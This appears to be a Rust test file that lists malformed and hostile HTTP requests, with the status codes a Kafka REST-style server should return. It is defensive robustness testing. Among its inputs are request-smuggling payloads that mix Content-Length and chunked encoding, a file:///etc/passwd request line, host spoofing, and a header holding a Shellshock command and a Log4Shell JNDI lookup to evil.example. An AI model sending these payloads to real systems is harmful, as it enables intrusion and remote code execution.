//! Hostile requests by name, each with the answers that it may get.

use crate::{bodies, requests};

/// One input: bytes as they are sent, and what may come back.
pub(crate) struct Case {
    /// What it is called where it fails.
    pub(crate) name: String,
    /// What is sent.
    pub(crate) bytes: Vec<u8>,
    /// Whether it is sent without an end, so that the sender has to say that no more comes.
    pub(crate) cut: bool,
    /// The statuses that its first answer may have; 0 is a connection closed without one.
    pub(crate) expected: Vec<u16>,
    /// Records that the topic keeps of it.
    pub(crate) kept: u64,
}

/// Inputs that belong together.
pub(crate) type Group = (&'static str, Vec<Case>);

/// The type of a body that is taken.
pub(crate) const JSON: &str = "content-type: application/vnd.kafka.json.v2+json";
/// A body that is taken, of one record.
pub(crate) const GOOD: &str = r#"{"records":[{"value":{"ind":1}}]}"#;

/// All of them.
pub(crate) fn groups() -> Vec<Group> {
    vec![
        ("request lines", request_lines()),
        ("headers", headers()),
        ("lengths", lengths()),
        ("chunks", chunks()),
        ("names", requests::names()),
        ("other protocols", requests::protocols()),
        ("types and encodings", requests::types()),
        ("expectations and pipelines", requests::sequences()),
        ("bodies", bodies::all()),
    ]
}

pub(crate) fn case(name: impl Into<String>, bytes: impl Into<Vec<u8>>, expected: &[u16]) -> Case {
    Case { name: name.into(), bytes: bytes.into(), cut: false, expected: expected.to_vec(), kept: 0 }
}

impl Case {
    pub(crate) fn cut(self) -> Self {
        Self { cut: true, ..self }
    }

    pub(crate) fn keeps(self, kept: u64) -> Self {
        Self { kept, ..self }
    }
}

/// A request's line and headers, with the end of the head.
pub(crate) fn head(line: &str, headers: &[&str]) -> String {
    let mut text = format!("{line}\r\nhost: localhost\r\nconnection: close\r\n");
    headers.iter().for_each(|header| text += &format!("{header}\r\n"));
    text + "\r\n"
}

/// A post to the topic, of the right type and length, with more headers.
pub(crate) fn post(headers: &[&str], body: &[u8]) -> Vec<u8> {
    let length = format!("content-length: {}", body.len());
    let all: Vec<&str> = [JSON, &length].into_iter().chain(headers.iter().copied()).collect();
    [head("POST /topics/thing HTTP/1.1", &all).as_bytes(), body].concat()
}

pub(crate) fn get(path: &str) -> String {
    head(&format!("GET {path} HTTP/1.1"), &[])
}

fn request_lines() -> Vec<Case> {
    let line = |name: &str, line: &str, expected: &[u16]| case(name, head(line, &[]), expected);
    vec![
        case("nothing", "", &[0]).cut(),
        case("an empty line", "\r\n", &[0]).cut(),
        case("only a line feed", "\n", &[0]).cut(),
        case("a thousand empty lines", "\r\n".repeat(1_000), &[0]).cut(),
        line("no version", "GET /topics", &[400]),
        line("version 0.9", "GET /topics HTTP/0.9", &[400]),
        line("version 1.2", "GET /topics HTTP/1.2", &[400]),
        line("version 2.0", "GET /topics HTTP/2.0", &[0, 400]),
        line("version 3", "GET /topics HTTP/3", &[400]),
        line("version 1.11", "GET /topics HTTP/1.11", &[400]),
        line("version 11", "GET /topics HTTP/11", &[400]),
        line("version without a number", "GET /topics HTTP/", &[400]),
        line("version in small letters", "GET /topics http/1.1", &[400]),
        line("another protocol's version", "GET /topics ICAP/1.1", &[400]),
        line("two versions", "GET /topics HTTP/1.1 HTTP/1.1", &[400]),
        line("two blanks", "GET  /topics HTTP/1.1", &[400]),
        line("two blanks before the version", "GET /topics  HTTP/1.1", &[400]),
        line("a blank at the end", "GET /topics HTTP/1.1 ", &[400]),
        line("tabs", "GET\t/topics\tHTTP/1.1", &[400]),
        line("a blank first", " GET /topics HTTP/1.1", &[400]),
        line("a colon first", ": GET /topics HTTP/1.1", &[400]),
        line("a vertical tab", "GET\x0b/topics HTTP/1.1", &[400]),
        line("no method", "/topics HTTP/1.1", &[400]),
        line("no path", "GET HTTP/1.1", &[400]),
        line("only a method", "GET", &[400]),
        line("a method in small letters", "get /topics HTTP/1.1", &[405]),
        line("an unknown method", "BREW /topics HTTP/1.1", &[405]),
        line("a method with a slash", "GE/T /topics HTTP/1.1", &[400]),
        line("a method of 10,000 letters", &format!("{} /topics HTTP/1.1", "G".repeat(10_000)), &[400, 405]),
        line("a method with a NUL", "GE\0T /topics HTTP/1.1", &[400]),
        line("a method with high bytes", "GÉT /topics HTTP/1.1", &[400]),
        line("TRACE", "TRACE / HTTP/1.1", &[405]),
        line("CONNECT", "CONNECT evil.example:443 HTTP/1.1", &[400, 404, 405, 421]),
        line("CONNECT to itself", "CONNECT localhost HTTP/1.1", &[400, 404, 405]),
        line("OPTIONS of all", "OPTIONS * HTTP/1.1", &[404, 405]),
        line("OPTIONS as browsers ask", "OPTIONS /topics/thing HTTP/1.1", &[405]),
        line("DELETE of a topic", "DELETE /topics/thing HTTP/1.1", &[405]),
        line("PATCH of a topic", "PATCH /topics/thing HTTP/1.1", &[405]),
        line("PROPFIND", "PROPFIND / HTTP/1.1", &[405]),
        line("a NUL in the path", "GET /topics\0 HTTP/1.1", &[400]),
        line("a DEL in the path", "GET /topics\x7f HTTP/1.1", &[400, 404]),
        line("an escape in the path", "GET /topics/\x1b[31m HTTP/1.1", &[400]),
        line("high bytes in the path", "GET /topics/é HTTP/1.1", &[400, 404]),
        line("a fragment", "GET /topics#x HTTP/1.1", &[200, 400]),
        line("a path without its slash", "GET topics HTTP/1.1", &[400, 404, 421]),
        line("a backslash", "GET \\topics HTTP/1.1", &[400, 404]),
        line("a page of another host", "GET http://evil.example/topics HTTP/1.1", &[400]),
        line("a page of its own host", "GET http://localhost/topics HTTP/1.1", &[200]),
        line("a page with a user", "GET http://a:b@localhost/topics HTTP/1.1", &[400]),
        line("a file's page", "GET file:///etc/passwd HTTP/1.1", &[400, 404]),
        line("a path of 8 KiB", &format!("GET /{} HTTP/1.1", "x".repeat((8 << 10) - 1)), &[404]),
        line("a path of 8 KiB and a byte", &format!("GET /{} HTTP/1.1", "x".repeat(8 << 10)), &[414]),
        line("a query of 9,000 bytes", &format!("GET /topics?{} HTTP/1.1", "x".repeat(9_000)), &[414]),
        line("a path of 70,000 bytes", &format!("GET /{} HTTP/1.1", "x".repeat(70_000)), &[414, 431]),
        line("a thousand slashes", &format!("GET {} HTTP/1.1", "/".repeat(1_000)), &[404]),
        line("a thousand parts", &format!("GET {} HTTP/1.1", "/a".repeat(1_000)), &[404]),
        case("a line without an end", "G".repeat(1_000), &[0]).cut(),
        case("a megabyte without an end", "G".repeat(1 << 20), &[400, 431]),
    ]
}

fn headers() -> Vec<Case> {
    let with =
        |name: &str, headers: &[&str], expected: &[u16]| case(name, head("GET /topics HTTP/1.1", headers), expected);
    let raw = |name: &str, lines: &str, expected: &[u16]| {
        case(name, format!("GET /topics HTTP/1.1\r\n{lines}\r\n\r\n"), expected)
    };
    let many = |count: usize| {
        let lines: Vec<String> = (0..count).map(|nth| format!("x-{nth}: y")).collect();
        head("GET /topics HTTP/1.1", &lines.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let filled = |bytes: usize| {
        let rest = bytes - head("GET /topics HTTP/1.1", &["x: "]).len();
        head("GET /topics HTTP/1.1", &[&format!("x: {}", "y".repeat(rest))])
    };
    let closing = "connection: close";
    vec![
        case("100 headers", many(98), &[200]),
        case("101 headers", many(99), &[431]),
        case("10,000 headers", many(10_000), &[431]),
        case("16 KiB of headers", filled(16 << 10), &[200]),
        case("16 KiB of headers and a byte", filled((16 << 10) + 1), &[431]),
        case("a header of 60,000 bytes", filled(60_000), &[431]),
        case("a header of a megabyte", filled(1 << 20), &[431]),
        with("a name of 20,000 bytes", &[&format!("{}: y", "x".repeat(20_000))], &[400, 431]),
        with("a name of 60,000 bytes", &[&format!("{}: y", "x".repeat(60_000))], &[400, 431]),
        raw("no host", closing, &[400]),
        case("no host in HTTP/1.0", "GET /topics HTTP/1.0\r\n\r\n", &[200]),
        raw("an empty host", &format!("host:\r\n{closing}"), &[400]),
        with("the same host twice", &["host: localhost"], &[400]),
        with("two hosts", &["host: evil.example"], &[400]),
        raw("a host of another site", &format!("host: evil.example\r\n{closing}"), &[421]),
        raw("a host that ends like its own", &format!("host: evil-localhost\r\n{closing}"), &[421]),
        raw("a host that begins like its own", &format!("host: localhost.evil.example\r\n{closing}"), &[421]),
        raw("a host that begins with its address", &format!("host: 127.0.0.1.evil.example\r\n{closing}"), &[421]),
        raw("a host as a number", &format!("host: 2130706433\r\n{closing}"), &[421]),
        raw("a host in short form", &format!("host: 127.1\r\n{closing}"), &[421]),
        raw("a host with a user", &format!("host: localhost@evil.example\r\n{closing}"), &[400]),
        raw("a host with a path", &format!("host: localhost/../x\r\n{closing}"), &[400]),
        raw("a host with a blank", &format!("host: local host\r\n{closing}"), &[400]),
        raw("a host with high bytes", &format!("host: löcalhost\r\n{closing}"), &[400]),
        raw("a host of 5,000 bytes", &format!("host: {}\r\n{closing}", "x".repeat(5_000)), &[421]),
        raw("a host whose port is none", &format!("host: localhost:99999999\r\n{closing}"), &[200, 400]),
        raw("an open bracket as host", &format!("host: [::1\r\n{closing}"), &[400]),
        with("a forwarded host", &["x-forwarded-host: evil.example", "forwarded: host=evil.example"], &[200]),
        with("an origin of another site", &["origin: http://evil.example"], &[403]),
        with("the origin null", &["origin: null"], &[403]),
        with("an origin of another port", &["origin: http://localhost:1"], &[403]),
        with("an empty origin", &["origin:"], &[403]),
        with("two origins", &["origin: http://localhost", "origin: http://evil.example"], &[403]),
        with("its own origin", &["origin: http://localhost"], &[200]),
        with("a fetch from another site", &["sec-fetch-site: cross-site"], &[403]),
        with("a fetch from a sister site", &["sec-fetch-site: same-site"], &[403]),
        with("a folded line", &["x: y", " z"], &[400]),
        with("a folded length", &["x: y", "\tcontent-length: 5"], &[400]),
        raw("a folded first line", &format!(" x: y\r\nhost: localhost\r\n{closing}"), &[400]),
        with("a blank before the colon", &["x : y"], &[400]),
        with("a tab before the colon", &["x\t: y"], &[400]),
        with("no colon", &["x"], &[400]),
        with("no name", &[": y"], &[400]),
        with("a name with a blank", &["x y: z"], &[400]),
        with("a name with a slash", &["x/y: z"], &[400]),
        with("a name with a NUL", &["x\0y: z"], &[400]),
        with("a name with high bytes", &["é: z"], &[400]),
        with("a value with a NUL", &["x: y\0z"], &[400]),
        with("a value with a carriage return", &["x: y\rz"], &[400]),
        with("a value with a line feed and a header", &["x: y\nz: a"], &[200, 400]),
        with("a value with an escape", &["x: \x1b[31m"], &[400]),
        with("a value with a DEL", &["x: \x7f"], &[400]),
        with("a value with high bytes", &["x: é"], &[200]),
        with("an empty value", &["x:"], &[200]),
        with("a value of blanks", &[&format!("x:{}", " ".repeat(1_000))], &[200]),
        case("bare line feeds", "GET /topics HTTP/1.1\nhost: localhost\nconnection: close\n\n", &[200, 400]),
        case("bare carriage returns", "GET /topics HTTP/1.1\rhost: localhost\r\r", &[0, 400]).cut(),
        case("lines that end in line feed and return", "GET /topics HTTP/1.1\n\rhost: localhost\n\r\n\r", &[0, 400])
            .cut(),
        with(
            "an upgrade to h2c",
            &["connection: upgrade, http2-settings", "upgrade: h2c", "http2-settings: AAMAAABkAAQAAP__"],
            &[200],
        ),
        with(
            "an upgrade to a web socket",
            &["connection: upgrade", "upgrade: websocket", "sec-websocket-key: x"],
            &[200],
        ),
        with("a range", &["range: bytes=0-0,1-1,2-2,3-3"], &[200]),
        with("a thousand ranges", &[&format!("range: bytes={}", "0-,".repeat(1_000))], &[200]),
        with("a method in a header", &["x-http-method-override: DELETE", "x-method-override: DELETE"], &[200]),
        with("a path in a header", &["x-original-url: /status", "x-rewrite-url: /status"], &[200]),
        with("an accept of nothing here", &["accept: text/html"], &[406]),
        with("an accept of 10,000 types", &[&format!("accept: {}*/*", "a/b,".repeat(2_500))], &[200]),
        with(
            "a shell in a header",
            &["user-agent: () { :;}; touch /tmp/x", "x-api-version: ${jndi:ldap://evil.example/a}"],
            &[200],
        ),
    ]
}

fn lengths() -> Vec<Case> {
    let with = |name: &str, headers: &[&str], expected: &[u16]| {
        let all: Vec<&str> = std::iter::once(JSON).chain(headers.iter().copied()).collect();
        case(name, head("POST /topics/thing HTTP/1.1", &all) + GOOD, expected)
    };
    let length = GOOD.len();
    let right = format!("content-length: {length}");
    let smuggled = format!("0\r\n\r\n{}", get("/topics"));
    let both = |name: &str, headers: [&str; 2]| {
        let all = [JSON, headers[0], headers[1]];
        case(name, head("POST /topics/thing HTTP/1.1", &all) + &smuggled, &[400, 422])
    };
    let smuggled_length = format!("content-length: {}", smuggled.len());
    let mut cases = vec![
        with("the right length", &[&right], &[200]).keeps(1),
        with("the right length twice", &[&right, &right], &[200, 400]).keeps(1),
        with("the right length in one line twice", &[&format!("content-length: {length}, {length}")], &[400]),
        with("two lengths", &[&right, "content-length: 1"], &[400]),
        with("two lengths, the right one last", &["content-length: 1", &right], &[400]),
        with("two lengths in one line", &[&format!("content-length: {length}, 1")], &[400]),
        with("a length of zero", &["content-length: 0"], &[422]),
        with("a length that is short", &[&format!("content-length: {}", length - 1)], &[400]),
        with("a length that is long", &[&format!("content-length: {}", length + 1)], &[0, 400]).cut(),
        with("a length that is far too long", &["content-length: 60000"], &[0, 400]).cut(),
        with("a length at the limit", &["content-length: 65536"], &[0, 400]).cut(),
        with("a length over the limit", &["content-length: 65537"], &[413]),
        with("no length", &[], &[422]),
    ];
    for wrong in [
        "-1",
        "+33",
        "0x21",
        "33.0",
        "3e1",
        "many",
        "33 33",
        "33;",
        "\"33\"",
        "",
        " ",
        "١٢",
        "18446744073709551615",
        "18446744073709551616",
        "99999999999999999999999999",
        "033x",
    ] {
        cases.push(with(&format!("the length {wrong:?}"), &[&format!("content-length: {wrong}")], &[0, 400, 413, 431]));
    }
    for (name, value) in [("a length of 63 bits", "9223372036854775807"), ("a length of a terabyte", "1099511627776")] {
        cases.push(with(name, &[&format!("content-length: {value}")], &[400, 413]));
    }
    cases.extend([
        both("chunks and a length", ["transfer-encoding: chunked", &smuggled_length]),
        both("a length and chunks", [&smuggled_length, "transfer-encoding: chunked"]),
        both("chunks in odd letters and a length", ["Transfer-Encoding: cHuNkEd", &smuggled_length]),
        both("a length of 4 and chunks", ["content-length: 4", "transfer-encoding: chunked"]),
        both("a length of 0 and chunks", ["content-length: 0", "transfer-encoding: chunked"]),
    ]);
    for odd in [
        "transfer-encoding: xchunked",
        "transfer-encoding: chunked, identity",
        "transfer-encoding: identity",
        "transfer-encoding: chunked-",
        "transfer-encoding: \"chunked\"",
        "transfer-encoding: chunked; q=1",
        "transfer-encoding : chunked",
        "transfer-encoding: chunked\r\ntransfer-encoding: identity",
        "transfer-encoding: \x0bchunked",
        "transfer-encoding:\r\n chunked",
        "transfer-encoding: gzip",
        "transfer-encoding: gzip, chunked",
        "transfer-encoding: chunked, chunked",
        "transfer-encoding:",
        "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
    ] {
        let headers = [JSON, odd, &smuggled_length];
        let bytes = head("POST /topics/thing HTTP/1.1", &headers) + &smuggled;
        cases.push(case(format!("{odd:?} and a length"), bytes, &[400, 422, 501]));
    }
    let old = head("POST /topics/thing HTTP/1.0", &[JSON, "transfer-encoding: chunked"]) + "0\r\n\r\n";
    cases.push(case("chunks in HTTP/1.0", old, &[400]));
    cases
}

fn chunks() -> Vec<Case> {
    let sent = |name: &str, body: &[u8], expected: &[u16]| {
        let head = head("POST /topics/thing HTTP/1.1", &[JSON, "transfer-encoding: chunked"]);
        case(name, [head.as_bytes(), body].concat(), expected)
    };
    let one = |size: &str| format!("{size}\r\n{GOOD}\r\n0\r\n\r\n").into_bytes();
    let size = format!("{:x}", GOOD.len());
    let bytes: String = GOOD.chars().map(|c| format!("1\r\n{c}\r\n")).collect();
    let large = format!("{:x}\r\n{}\r\n", 60_000, "x".repeat(60_000));
    let mut cases = vec![
        sent("one chunk", &one(&size), &[200]).keeps(1),
        sent("a chunk for each byte", format!("{bytes}0\r\n\r\n").as_bytes(), &[200]).keeps(1),
        sent("a size with zeros before it", &one(&format!("0000{size}")), &[200]).keeps(1),
        sent("a size in large letters", &one(&size.to_uppercase()), &[200]).keeps(1),
        sent("a size with an extension", &one(&format!("{size};a=b;c=\"d\"")), &[200]).keeps(1),
        sent("an extension of 20,000 bytes", &one(&format!("{size};{}", "x".repeat(20_000))), &[400]),
        sent("extensions of a megabyte", &one(&format!("{size};{}", "x".repeat(1 << 20))), &[400]),
        sent("an extension with a line feed", &one(&format!("{size};a\nb")), &[400]),
        sent("a size that is short", &one("5"), &[400]),
        sent("a size that is long", &one("ff"), &[0, 400]).cut(),
        sent("no last chunk", format!("{size}\r\n{GOOD}\r\n").as_bytes(), &[0, 400]).cut(),
        sent("no end of the last chunk", format!("{size}\r\n{GOOD}\r\n0\r\n").as_bytes(), &[0, 400]).cut(),
        sent("no line after a chunk", format!("{size}\r\n{GOOD}0\r\n\r\n").as_bytes(), &[400]),
        sent("a line feed after a chunk", format!("{size}\r\n{GOOD}\n0\r\n\r\n").as_bytes(), &[400]),
        sent("a line feed after a size", format!("{size}\n{GOOD}\r\n0\r\n\r\n").as_bytes(), &[400]),
        sent("only the last chunk", b"0\r\n\r\n", &[422]),
        sent("an empty body", b"", &[0, 400]).cut(),
        sent("a trailer", format!("{size}\r\n{GOOD}\r\n0\r\nx: y\r\n\r\n").as_bytes(), &[200]).keeps(1),
        sent(
            "a trailer that names a length",
            format!("{size}\r\n{GOOD}\r\n0\r\ncontent-length: 5\r\n\r\n").as_bytes(),
            &[200, 400],
        )
        .keeps(1),
        sent(
            "a trailer of 20,000 bytes",
            format!("{size}\r\n{GOOD}\r\n0\r\nx: {}\r\n\r\n", "y".repeat(20_000)).as_bytes(),
            &[400],
        ),
        sent(
            "a thousand trailers",
            format!("{size}\r\n{GOOD}\r\n0\r\n{}\r\n", "x: y\r\n".repeat(1_000)).as_bytes(),
            &[400],
        ),
        sent("chunks over the limit", format!("{large}{large}0\r\n\r\n").as_bytes(), &[413]),
        sent("100,000 chunks of a byte", format!("{}0\r\n\r\n", "1\r\nx\r\n".repeat(100_000)).as_bytes(), &[400, 413]),
        sent("a request after the last chunk", format!("0\r\n\r\n{}", get("/topics")).as_bytes(), &[422]),
    ];
    for wrong in [
        "-1",
        "+5",
        "0x21",
        "g",
        " ",
        "",
        "21 ",
        " 21",
        "21\t",
        "2 1",
        "ffffffffffffffff",
        "10000000000000000",
        "fffffffffffffffff",
        "7fffffffffffffff",
        "80000000000000000000000000000000",
        "21\0",
        "\u{ff12}1",
        "21,21",
    ] {
        // Blanks after a size are taken, as the standard has it for old senders.
        cases.push(sent(&format!("the size {wrong:?}"), &one(wrong), &[0, 200, 400, 413]).cut().keeps(1));
    }
    for case in &mut cases {
        if case.name.starts_with("the size \"21") && case.name.len() <= 15 {
            case.cut = false;
        }
    }
    cases
}
